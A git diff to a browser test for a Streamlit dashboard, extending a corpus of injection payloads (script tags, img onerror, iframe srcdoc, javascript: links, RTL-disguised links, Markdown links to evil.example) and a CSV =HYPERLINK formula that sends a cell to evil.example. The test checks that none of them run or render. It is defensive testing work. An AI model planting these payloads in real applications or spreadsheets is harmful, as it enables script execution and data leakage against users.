@@ -1,4 +1,5 @@
-"""Script injection in a real browser: a corpus of payloads placed where users put data runs nothing.
+"""Script and Markdown injection in a real browser: a corpus of payloads placed where users put data
+runs nothing, and is shown as the literal text the user wrote.
 
 Every payload calls a sentinel, ``__pwned('<vector id>')``, exposed with ``expose_binding`` on the
 browser context, so it exists in every frame: the page, the folium map iframe, Vega's and any
@@ -8,20 +9,32 @@ console errors that mention the sentinel, and for requests that only a parsed ``
 create (a ``javascript:`` link, ``<img src=x>``, an ``iframe srcdoc``, an event-handler attribute,
 a ``<script>`` starting with the sentinel).
 
+Markdown is not script, but Streamlit renders it in titles, captions, alerts and labels: a name
+like ``[visit](https://evil.example/x) **bold** :red[red] $x^2$ :material/home: :smile:`` would
+become a link, bold, coloured text, maths, an icon and an emoji. Pages escape such text
+(:func:`lib.present.md_text`), so the test also fails if any frame holds a link to
+``evil.example`` (Markdown links and the bare addresses GitHub Markdown links), a ``<strong>`` or
+``<b>`` reading exactly ``bold``, Streamlit's coloured text, maths, the ``home`` icon, an image in
+Markdown (Streamlit's logo for ``:streamlit:``) or the 😄 emoji; and, on every page it visits, the
+Markdown-rendered text itself must hold ``[visit](https://evil.example/x)`` literally (the
+selected neighbourhood's name is the payload, so it is in every page's sidebar and titles).
+
 Where the payloads go (all through the "Your data" page, in one browser session):
 
 * **area names**: an uploaded neighbourhood grouping (the 12 neighbourhoods' wards as shipped)
   whose 12 neighbourhood names, the ward names and the locality names are payloads: they reach the
-  sidebar select box, titles and headlines, map tooltips, chart axes and tables;
+  sidebar select box, titles and headlines, map tooltips, chart axes and tables (the selected
+  neighbourhood, S2, is named with the Markdown payload);
 * **indicator names**: an uploaded own-format file with six indicators whose ``indicator_name``
-  values are payloads (names, short names, select boxes, subheaders, chart axes, the catalogue);
+  values are payloads (names, short names, select boxes, subheaders, chart axes, the catalogue;
+  the one picked on the overview and compare pages is the Markdown payload);
 * **uploaded text fields**: the same file's ``unit`` column and ``indicator_id``, and the file name.
 
 Then it visits every page that shows them: Your data, Map (hovering and clicking polygons so
 tooltips render, neighbourhoods and wards, a user indicator), Overview, Neighbourhood profile,
 Compare areas, Risk cohorts, Activity shift, Present and Data and methods, and asserts that
-nothing ran, no exception box appeared, and every vector was shown somewhere as literal text (so
-the data provably reached the page).
+nothing ran, no exception box appeared, no Markdown in the data was rendered as Markdown, and
+every vector was shown somewhere as literal text (so the data provably reached the page).
 
 CSV formula injection (``=HYPERLINK(...)``) is inert in the browser; in CSV downloads text cells
 that start with ``=``, ``+``, ``-``, ``@``, tab or carriage return are neutralised with a leading
@@ -57,10 +70,17 @@ CORPUS: dict[str, str] = {
     "iframe": "<iframe srcdoc=\"<script>__pwned('iframe')</script>\"></iframe>",
     "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"__pwned('formula')\")",
     "rtl": "\u202e<a href=\"javascript:__pwned('rtl')\">\u200bgnp.exe</a>\u202d",
+    # Markdown that would be a link, bold, colour, maths, an icon, an emoji, Streamlit's logo and bare links
+    "mdvisit": "[visit](https://evil.example/x) **bold** :red[red] $x^2$ :material/home: :smile: :streamlit: www.evil.example/y me@evil.example",
 }
+#: What must be shown literally, in Markdown, on every page (the selected neighbourhood's name holds it).
+MD_LITERAL = "[visit](https://evil.example/x)"
 VECTORS = list(CORPUS)
 NEIGHBOURHOODS = ["N1", "N2", "N3", "N4", "C1", "C2", "C3", "C4", "S1", "S2", "S3", "S4"]
-IND_NAMES = ["script", "img", "mdlink", "dquote", "template", "formula"]  # indicator_name
+#: neighbourhood -> the vector that names it (S2, the one selected, is named with the Markdown payload)
+NB_VECTORS = dict(zip(NEIGHBOURHOODS, ["script", "img", "svg", "mdlink", "mdmix", "dquote", "squote", "template", "vega", "mdvisit",
+                                       "formula", "rtl"]))
+IND_NAMES = ["script", "img", "mdvisit", "dquote", "template", "formula"]  # indicator_name
 IND_UNITS = ["svg", "mdmix", "squote", "vega", "iframe", "rtl"]  # unit of the same indicators
 FILE_NAME = "<img src=x onerror=__pwned('filename')>.csv"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -80,7 +100,7 @@ def _csv(rows: list[list[str]]) -> bytes:
 def grouping_csv() -> bytes:
     """The shipped 12-neighbourhood grouping with payloads for neighbourhood, ward and locality names."""
     d = pd.read_csv(REPO / "geodata" / "neighbourhoods.csv", dtype=str)
-    nb_name = {code: CORPUS[VECTORS[i]] for i, code in enumerate(NEIGHBOURHOODS)}
+    nb_name = {code: CORPUS[NB_VECTORS[code]] for code in NEIGHBOURHOODS}
     loc_name = {"NORTH": CORPUS["iframe"], "CENTRAL": CORPUS["script"], "SOUTH": CORPUS["mdlink"]}
     rows = [["ward_code", "ward_name", "neighbourhood_code", "neighbourhood_name", "locality_code", "locality_name"]]
     for k, r in enumerate(d.itertuples()):
@@ -137,13 +157,22 @@ class Watch:
         assert not elements, f"{where}: a payload became markup: {elements[:5]}"
 
 
-#: Elements only a payload parsed as HTML (or markdown) would create, in any frame.
+#: Elements only a payload parsed as HTML (or markdown) would create, in any frame. The app itself
+#: shows no coloured text, maths, home icon, image in Markdown or 😄, and never writes "bold" in bold.
 DOM_SCAN = """() => {
     const out = [];
     for (const el of document.querySelectorAll('a[href]')) {
         const href = (el.getAttribute('href') || '').trim().toLowerCase();
-        if (/^(javascript|data|vbscript):/.test(href)) out.push(el.outerHTML.slice(0, 120));
+        if (/^(javascript|data|vbscript):/.test(href) || href.includes('evil.example')) out.push(el.outerHTML.slice(0, 120));
     }
+    for (const el of document.querySelectorAll('strong, b')) {
+        if (el.textContent.trim() === 'bold') out.push(el.outerHTML.slice(0, 120));
+    }
+    for (const el of document.querySelectorAll('.stMarkdownColoredText, .katex, span[role="img"][aria-label="home icon"], '
+                                                + '[data-testid="stMarkdownContainer"] img')) {
+        out.push(el.outerHTML.slice(0, 120));
+    }
+    if (document.body && document.body.innerText.includes('\\u{1F604}')) out.push('the :smile: emoji');
     for (const el of document.querySelectorAll('img[src="x"], iframe[srcdoc], svg[onload], [onerror], [onload], [onmouseover]')) {
         out.push(el.outerHTML.slice(0, 120));
     }
@@ -153,7 +182,17 @@ DOM_SCAN = """() => {
 
 
 def _norm(text: str) -> str:
-    return re.sub(r"\s+", " ", text.replace("\u00a0", " "))
+    # U+2060 (word joiner): invisible, put in by lib.present.md_text so Streamlit cannot link an address or make an emoji
+    return re.sub(r"\s+", " ", text.replace("\u00a0", " ").replace("\u2060", ""))
+
+
+def assert_markdown_literal(page, where: str) -> None:
+    """The text Streamlit rendered from Markdown (text, titles, captions, alerts, labels) holds the
+    Markdown payload exactly as written."""
+    shown = _norm(page.evaluate(
+        """() => [...document.querySelectorAll('[data-testid="stMarkdownContainer"], [data-testid="stCaptionContainer"]')]
+                 .map(e => e.innerText).join('\\n')"""))
+    assert MD_LITERAL in shown, f"{where}: {MD_LITERAL!r} is not shown literally in the page's Markdown"
 
 
 class Seen:
@@ -296,6 +335,7 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
     wait_ready(page, timeout=60_000)
     seen.collect(page, "map selected S2")
     watch.check("map after click")
+    assert_markdown_literal(page, "map selected S2")
     main.locator('[data-testid="stSelectbox"]').nth(0).click()  # family: the user indicators are outcomes
     page.keyboard.press("Escape")
     _pick(page, main.locator('[data-testid="stSelectbox"]').nth(1), "pwned(\"template", CORPUS["template"])
@@ -315,6 +355,7 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
     _hover_areas(page, wards[:14], seen, watch, "map wards")
     seen.collect(page, "map wards")
     watch.check("map wards")
+    assert_markdown_literal(page, "map wards")
     screenshot(page, "injection_map")
 
     with page.expect_download(timeout=30_000) as dl:
@@ -330,7 +371,7 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
         assert_no_exception(page)
         if where in ("overview", "compare"):
             box = main.locator('[data-testid="stSelectbox"]').nth(0 if where == "overview" else 1)
-            _pick(page, box, "pwned('mdlink')", CORPUS["mdlink"])
+            _pick(page, box, "visit](https", CORPUS["mdvisit"][:40])  # the compare page lists short names (40 characters)
             assert_no_exception(page)
         # the other views of the cohorts, activity and methods pages (lazy tabs: drawn when opened)
         views = {"cohorts": [None, "Map of a cohort indicator", "Risk pyramid (MODELLED)"],
@@ -351,6 +392,7 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
                     pass
             seen.collect(page, name)
             watch.check(name)
+            assert_markdown_literal(page, name)
             screenshot(page, f"injection_{name.replace(' · ', '_').replace(' ', '_')}")
 
     # ---- presentation mode, from the sidebar link (same session), through its steps
@@ -361,6 +403,7 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
         assert_no_exception(page)
         seen.collect(page, f"present {step}")
         watch.check(f"present step {step}")
+        assert_markdown_literal(page, f"present step {step}")
         nxt = page.locator(".st-key-np_next button").first
         if nxt.count() == 0 or nxt.is_disabled():
             break
